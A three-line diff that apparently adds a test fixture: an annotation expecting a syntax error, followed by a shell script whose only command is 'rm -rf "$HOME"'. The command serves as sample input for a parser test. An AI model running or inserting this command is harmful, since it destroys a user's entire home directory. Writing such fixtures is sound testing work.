@@ -1,0 +1,3 @@
+//! syntax @2:2 Syntax error
+#!/bin/sh
+rm -rf "$HOME"
